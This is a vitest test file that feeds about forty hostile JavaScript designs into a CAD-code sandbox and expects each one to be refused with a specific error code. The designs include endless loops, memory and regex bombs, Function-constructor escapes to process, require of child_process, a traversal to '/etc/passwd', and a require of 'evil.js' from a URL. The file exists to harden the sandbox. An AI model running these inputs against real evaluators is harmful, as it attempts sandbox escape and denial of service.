// SPDX-FileCopyrightText: 2026 fabcommons contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { afterEach, describe, expect, it } from 'vitest';
import { measure } from '../../../src/pipeline/mesh/measure.ts';
import { design, evaluatedSolid, refusal } from './evaluate-code.ts';

/** A design that ends in a Problem of `code`, within its budgets. */
const attacks: readonly [name: string, code: string, source: string, budgets?: object][] = [
  ['an endless loop', 'evaluate-timeout', 'while (true) {}', { timeMs: 300 }],
  [
    'an endless loop that catches everything',
    'evaluate-timeout',
    design('(() => { for (;;) { try { for (;;) {} } catch {} finally { for (;;) {} } } })()'),
    { timeMs: 300 },
  ],
  [
    'promises that never stop',
    'evaluate-timeout',
    'const again = () => Promise.resolve().then(again)\nmodule.exports = { main: async () => again() }',
    { timeMs: 300 },
  ],
  [
    'a regular expression that backtracks without end',
    'evaluate-timeout',
    'module.exports.main = () => /^(a+)+$/.test("a".repeat(50) + "b")',
    { timeMs: 300 },
  ],
  [
    'an endless loop in getParameterDefinitions',
    'evaluate-timeout',
    'module.exports = { main: () => [], getParameterDefinitions: () => { for (;;) {} } }',
    { timeMs: 300 },
  ],
  ['a buffer of 10 GB', 'evaluate-exception', design('new Uint8Array(10 * 2 ** 30)')],
  [
    'a list that grows without end',
    'evaluate-memory',
    design('(() => { const a = []; for (;;) a.push(new Array(1000).fill(1)) })()'),
    { memoryBytes: 64 * 2 ** 20 },
  ],
  [
    'small objects without end',
    'evaluate-memory',
    design('(() => { const a = []; for (;;) a.push({ x: 1 }) })()'),
    { memoryBytes: 32 * 2 ** 20 },
  ],
  [
    'a text that doubles without end',
    'evaluate-memory',
    design(
      '(() => { let s = "xy"; const all = []; for (;;) { s += s; all.push(s.split("")) } })()',
    ),
    { memoryBytes: 64 * 2 ** 20 },
  ],
  [
    'recursion without end',
    'evaluate-stack',
    'const main = () => main()\nmodule.exports = { main }',
  ],
  ['recursion through getters', 'evaluate-stack', design('({ get a () { return this.a } }).a')],
  [
    'recursion through JSON',
    'evaluate-stack',
    design('JSON.stringify({ toJSON () { return JSON.stringify(this) } })'),
  ],
  [
    'kernel calls without end that catch everything',
    'evaluate-timeout',
    design(
      '(() => { for (let a = sphere(); ;) try { a = union(a, rotate([1, 2, 3], cube())) } catch {} })()',
    ),
    { timeMs: 500 },
  ],
  ['JSON nested too deep', 'evaluate-stack', design('JSON.parse("[".repeat(1e6))')],
  ['a text of a gigabyte', 'evaluate-memory', design('"x".repeat(2 ** 29)')],
  [
    'a getter in place of polygons',
    'evaluate-exception',
    design(
      'Object.defineProperty({ ...cube() }, "polygons", { get () { throw new Error("gotcha") } })',
    ),
  ],
  [
    'polygons of a made-up length',
    'evaluate-exception',
    design('union({ polygons: [{ vertices: { length: 1e9 } }], transforms: cube().transforms })'),
  ],
  ['a module of Node', 'evaluate-module-system', "const fs = require('fs')"],
  [
    'a module of Node by scheme',
    'evaluate-module-system',
    "const fs = require('node:child_process')",
  ],
  ['process', 'evaluate-exception', design('process.exit(1)')],
  ['fetch', 'evaluate-exception', design('fetch("http://localhost")')],
  [
    'import() of a module of Node',
    'evaluate-module-system',
    'module.exports.main = async () => { const fs = await import("fs"); return fs }',
  ],
  [
    'import() hidden in a Function',
    'evaluate-exception',
    'module.exports.main = () => Function("return import(\'fs\')")().then((fs) => fs.readFileSync)',
  ],
  [
    'the Function constructor',
    'evaluate-exception',
    design('cube.constructor.constructor("return process")().exit()'),
  ],
  ['a file above the root', 'evaluate-module-outside', "require('../../etc/passwd')"],
  ['an address', 'evaluate-module-url', "require('https://example.com/evil.js')"],
  [
    'a promise that never settles',
    'evaluate-never-settles',
    'module.exports.main = () => new Promise(() => {})',
  ],
  [
    'a thrown getter bomb',
    'evaluate-timeout',
    'module.exports.main = () => { throw { get message () { for (;;) {} } } }',
    { timeMs: 300 },
  ],
  [
    'a thrown proxy',
    'evaluate-exception',
    'module.exports.main = () => { throw new Proxy({}, { get () { throw 1 } }) }',
  ],
  ['throwing nothing', 'evaluate-exception', 'module.exports.main = () => { throw undefined }'],
  ['throwing null', 'evaluate-exception', 'module.exports.main = () => { throw null }'],
  [
    'a log flood',
    'evaluate-log',
    design('(() => { for (;;) try { console.log("x") } catch {} })()'),
  ],
  [
    'a sphere of millions of triangles',
    'evaluate-triangles',
    design('union(sphere({ radius: 10, segments: 200 }), cube())'),
    { triangles: 30_000 },
  ],
  ['too many solids', 'evaluate-solids', design('Array.from({ length: 2000 }, () => cube())')],
  [
    'too many triangles in all',
    'evaluate-triangles',
    design('Array.from({ length: 100 }, () => cube())'),
    { triangles: 1000 },
  ],
  [
    'a solid with NaN',
    'evaluate-not-finite',
    design('({ spike: geometries.geom3.fromPoints([[[0, 0, 0], [1, 0, 0], [NaN, 1, 0]]]) })'),
  ],
  ['NaN in a transform', 'evaluate-not-finite', design('translate([0 / 0, 0, 0], cube())')],
  [
    'NaN in a transform of a boolean',
    'evaluate-not-finite',
    design('translate([0 / 0, 0, 0], union(cube(), sphere()))'),
  ],
  ['a number as a result', 'evaluate-empty', design('42')],
  [
    'a result that holds itself',
    'evaluate-exception',
    'module.exports.main = () => { const a = []; a.push(a); return a }',
  ],
  [
    'a result of endless keys',
    'evaluate-timeout',
    'const p = () => new Proxy({}, { ownKeys: () => { for (;;) {} } })\nmodule.exports.main = () => p()',
    { timeMs: 300 },
  ],
  [
    'an invented solid',
    'evaluate-not-finite',
    'module.exports.main = () => ({ polygons: [{ vertices: 5 }], transforms: [1] })',
  ],
  [
    'broken intrinsics',
    'evaluate-exception',
    'Array.prototype.map = Map.prototype.get = JSON.parse = () => { throw new Error("mine now") }\nconst { cube } = require("@jscad/modeling").primitives\nmodule.exports.main = () => [1].map(() => cube())',
  ],
];

describe('hostile designs', () => {
  afterEach(async () => {
    const solid = await evaluatedSolid(design('subtract(cube({ size: 10 }), cube({ size: 4 }))'));
    expect(measure(solid.mesh).volume).toBeCloseTo(936, 3);
  });

  it.each(attacks)(
    'end %s in its Problem, and the next design works',
    async (_, code, source, budgets) => {
      const started = performance.now();
      const problem = await refusal(source, budgets ?? {});
      expect(problem).toMatchObject({ code });
      expect(performance.now() - started).toBeLessThan(10_000);
    },
  );
});
